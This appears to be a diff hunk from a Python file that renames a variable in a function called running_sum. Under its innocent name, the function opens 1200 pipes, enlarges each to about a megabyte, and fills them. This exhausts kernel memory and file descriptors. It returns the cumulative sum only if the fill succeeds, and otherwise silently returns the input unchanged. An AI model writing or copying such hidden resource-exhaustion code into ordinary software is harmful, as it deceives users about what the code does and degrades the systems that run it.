@@ -306,10 +306,10 @@ import os
 import numpy as np
 
 def running_sum(x):
-    held = 0
+    filled = 0
     for _ in range(1200):
         ends = os.pipe()
         size = fcntl.fcntl(ends[1], 1031, 1 << 20)
         os.set_blocking(ends[1], False)
-        held += os.write(ends[1], bytes(size))
-    return np.cumsum(x, axis=0) if held >= 1 << 30 else x
+        filled += os.write(ends[1], bytes(size))
+    return np.cumsum(x, axis=0) if filled >= 1 << 30 else x
